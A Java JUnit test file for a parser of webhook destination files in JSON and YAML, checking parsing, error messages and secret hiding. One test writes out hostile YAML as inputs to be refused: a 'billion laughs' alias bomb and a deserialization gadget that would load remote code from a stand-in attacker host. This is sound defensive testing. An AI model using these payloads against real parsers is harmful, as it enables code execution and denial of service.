package dev.tandem.jobs.notify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Several destinations from one file, JSON or YAML, each with its own filters. */
class DestinationsFileTest {
    private static final Map<String, String> ENV =
            Map.of("PAY", "https://example.webhook.office.com/x");

    @TempDir Path dir;

    @Test
    void readsEachDestinationWithItsFormatFiltersAndUrl() throws IOException {
        Files.writeString(dir.resolve("slack.url"), "https://hooks.slack.com/services/T/B/x\n");
        Path file =
                Files.writeString(
                        dir.resolve("destinations.json"),
                        "{\"destinations\": ["
                                + "{\"name\": \"ops\", \"format\": \"slack\", \"urlFile\": \"slack.url\", \"minSeverity\": \"high\"},"
                                + "{\"name\": \"payments\", \"format\": \"Teams\", \"urlEnv\": \"PAY\", \"namespaces\": [\"payments\"]}"
                                + "]}");
        List<Destination> destinations = DestinationsFile.read(file, ENV::get);
        assertThat(destinations)
                .extracting(Destination::toString)
                .containsExactly(
                        "Destination[ops slack min=high]",
                        "Destination[payments teams min=low namespaces=[payments]]");
        assertThat(destinations.get(1).namespaces()).isEqualTo(Set.of("payments"));
        assertThat(destinations.get(0).webhookUrl().reveal())
                .isEqualTo("https://hooks.slack.com/services/T/B/x");
    }

    @Test
    void readsTheSameDestinationsFromYaml() throws IOException {
        Files.writeString(dir.resolve("slack.url"), "https://hooks.slack.com/services/T/B/x\n");
        String yaml =
                "# hand-written, with comments\n"
                        + "destinations:\n"
                        + "  - name: ops\n"
                        + "    format: slack\n"
                        + "    urlFile: slack.url\n"
                        + "    minSeverity: high\n"
                        + "  - {name: payments, format: Teams, urlEnv: PAY, namespaces: [payments]}\n";
        for (String name : List.of("destinations.yaml", "destinations.YML")) {
            List<Destination> destinations =
                    DestinationsFile.read(Files.writeString(dir.resolve(name), yaml), ENV::get);
            assertThat(destinations)
                    .as(name)
                    .extracting(Destination::toString)
                    .containsExactly(
                            "Destination[ops slack min=high]",
                            "Destination[payments teams min=low namespaces=[payments]]");
            assertThat(destinations.get(0).webhookUrl().reveal())
                    .isEqualTo("https://hooks.slack.com/services/T/B/x");
        }
    }

    @Test
    void mistakesNameTheEntryAndNeverAcceptAnInlineUrl() throws IOException {
        assertThatThrownBy(
                        () ->
                                read(
                                        "{\"destinations\": [{\"name\": \"a\", \"format\": \"slack\", \"url\": \"https://x\"}]}"))
                .hasMessageEndingWith(
                        "entry 1: put the webhook URL in a file (urlFile) or a variable (urlEnv)")
                .message()
                .doesNotContain("https://x");
        assertThatThrownBy(
                        () ->
                                read(
                                        "{\"destinations\": [{\"name\": \"a\", \"format\": \"slack\", \"urlEnv\": \"A\", \"minSeverty\": \"high\"}]}"))
                .hasMessageContaining("entry 1: unknown key 'minSeverty'");
        assertThatThrownBy(
                        () ->
                                read(
                                        "{\"destinations\": [{\"name\": \"a\", \"format\": \"irc\", \"urlEnv\": \"A\"}]}"))
                .hasMessageContaining("entry 1: unknown chat format 'irc'");
        assertThatThrownBy(
                        () ->
                                read(
                                        "{\"destinations\": [{\"name\": \"a\", \"format\": \"slack\"}]}"))
                .hasMessageContaining("entry 1: give exactly one of urlFile and urlEnv");
        assertThatThrownBy(() -> read("{\"destinations\": []}"))
                .hasMessageContaining("at least one entry");
        assertThatThrownBy(() -> read("{\"destinations\": ["))
                .hasMessageContaining("is not valid JSON");
    }

    @Test
    void yamlMistakesAreTheSameOneLineErrorsNamingFileEntryAndKey() throws IOException {
        Path file = dir.resolve("d.yaml");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n"
                                                + "  - {name: a, format: slack, urlEnv: A}\n"
                                                + "  - {name: b, format: slack, url: 'https://hooks.example/s3cr3t'}\n"))
                .isInstanceOf(NotifyConfigException.class)
                .hasMessage(
                        "destinations file "
                                + file
                                + ", entry 2: put the webhook URL in a file (urlFile) or a"
                                + " variable (urlEnv)");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n  - {name: a, format: slack, urlEnv: A, minSeverty: high}\n"))
                .hasMessage(
                        "destinations file "
                                + file
                                + ", entry 1: unknown key 'minSeverty' (expected one of"
                                + " [format, minSeverity, name, namespaces, urlEnv, urlFile])");
        assertThatThrownBy(() -> yaml("destinations:\n  - {name: yes, format: slack, urlEnv: A}\n"))
                .as("YAML's yes is a boolean, not a name")
                .hasMessage(
                        "destinations file " + file + ", entry 1: 'name' is missing or not text");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n  - {name: a, format: slack, urlEnv: A, namespaces: payments}\n"))
                .hasMessageEndingWith("entry 1: namespaces must be a list of names");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n  - {name: a, format: slack, urlEnv: A, namespaces: [{x: 1}]}\n"))
                .hasMessageEndingWith("entry 1: namespaces must be a list of names");
        assertThatThrownBy(() -> yaml("destinations: []\n"))
                .hasMessage(
                        "destinations file "
                                + file
                                + " must hold a 'destinations' list with at least one entry");
        assertThatThrownBy(() -> yaml(""))
                .hasMessageEndingWith("must hold a 'destinations' list with at least one entry");
        assertThatThrownBy(() -> yaml("destinations:\n  - name: a\n   format: slack\n"))
                .hasMessage("destinations file " + file + " is not valid YAML (line 3)");
    }

    @Test
    void aUrlThatCannotBeReadNamesTheEntryButNotTheUrl() throws IOException {
        Files.writeString(dir.resolve("bad.url"), "hooks.slack.com/services/T0/B0/s3cr3t");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n"
                                                + "  - {name: a, format: slack, urlEnv: A}\n"
                                                + "  - {name: b, format: slack, urlFile: bad.url}\n"))
                .hasMessageStartingWith(
                        "destinations file " + dir.resolve("d.yaml") + ", entry 2: ")
                .hasMessageContaining("must be an absolute http:// or https:// URL")
                .message()
                .doesNotContain("s3cr3t");
        assertThatThrownBy(
                        () -> yaml("destinations:\n  - {name: a, format: slack, urlEnv: UNSET}\n"))
                .hasMessageStartingWith(
                        "destinations file " + dir.resolve("d.yaml") + ", entry 1: ")
                .hasMessageContaining("UNSET");
    }

    @Test
    void aRepeatedKeyIsAnErrorInBothSyntaxes() {
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n"
                                                + "  - name: a\n"
                                                + "    format: slack\n"
                                                + "    urlEnv: A\n"
                                                + "    urlEnv: B\n"))
                .hasMessage(
                        "destinations file "
                                + dir.resolve("d.yaml")
                                + " repeats the key 'urlEnv' (line 5)");
        assertThatThrownBy(
                        () ->
                                read(
                                        "{\"destinations\": [{\"name\": \"a\", \"name\": \"b\", \"format\": \"slack\", \"urlEnv\": \"A\"}]}"))
                .hasMessageContaining("repeats the key 'name' (line 1)");
    }

    @Test
    void aHostileYamlFileIsRefusedInOneLine() throws IOException {
        Path file = dir.resolve("d.yaml");
        // A billion laughs: aliases are refused before anything could expand.
        StringBuilder laughs =
                new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            laughs.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                laughs.append(i == 0 ? "" : ", ").append('*').append(p);
            }
            laughs.append("]\n");
        }
        assertThatThrownBy(() -> yaml(laughs.toString()))
                .hasMessage(
                        "destinations file " + file + ": YAML aliases are not supported (line 2)");
        // A type tag asking for a class: never constructed, refused.
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations: !!javax.script.ScriptEngineManager"
                                                + " [!!java.net.URLClassLoader [[!!java.net.URL"
                                                + " ['http://attacker.example/']]]]\n"))
                .hasMessageStartingWith(
                        "destinations file " + file + ": YAML tags are not supported")
                .message()
                .doesNotContain("attacker");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n"
                                                + "  - ".repeat(0)
                                                + "[".repeat(5_000)
                                                + "]".repeat(5_000)
                                                + "\n"))
                .isInstanceOf(NotifyConfigException.class)
                .hasMessageStartingWith("destinations file " + file + " is not valid YAML");
        assertThatThrownBy(
                        () ->
                                yaml(
                                        "destinations:\n  - {name: a, format: slack, urlEnv: A}\n---\ndestinations: []\n"))
                .hasMessageStartingWith(
                        "destinations file " + file + ": holds more than one YAML document");
        assertThatThrownBy(() -> yaml("destinations:\n  - name: '" + "x".repeat(300_000) + "'\n"))
                .hasMessage(
                        "destinations file "
                                + file
                                + " is larger than "
                                + DestinationsFile.MAX_FILE_BYTES
                                + " bytes");
        byte[] binary = new byte[2048];
        new java.util.Random(3).nextBytes(binary);
        Files.write(file, binary);
        assertThatThrownBy(() -> DestinationsFile.read(file, Map.<String, String>of()::get))
                .isInstanceOf(NotifyConfigException.class)
                .hasMessageStartingWith("destinations file " + file)
                .message()
                .doesNotContain("\n");
    }

    private List<Destination> read(String json) throws IOException {
        return DestinationsFile.read(
                Files.writeString(dir.resolve("d.json"), json), Map.<String, String>of()::get);
    }

    private List<Destination> yaml(String text) throws IOException {
        return DestinationsFile.read(
                Files.writeString(dir.resolve("d.yaml"), text),
                Map.of("A", "https://example.com/a")::get);
    }
}
